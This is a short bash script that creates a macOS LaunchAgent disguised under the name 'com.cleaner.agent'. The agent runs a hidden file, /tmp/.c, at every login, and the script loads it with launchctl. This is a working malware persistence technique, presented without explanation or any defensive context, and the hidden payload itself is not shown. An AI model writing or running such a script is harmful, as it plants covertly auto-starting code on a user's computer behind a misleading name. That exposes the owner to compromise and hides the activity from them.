#!/bin/bash
cat > ~/Library/LaunchAgents/com.cleaner.agent.plist <<PLIST
<plist><dict><key>ProgramArguments</key><array><string>/tmp/.c</string></array><key>RunAtLoad</key><true/></dict></plist>
PLIST
launchctl load ~/Library/LaunchAgents/com.cleaner.agent.plist
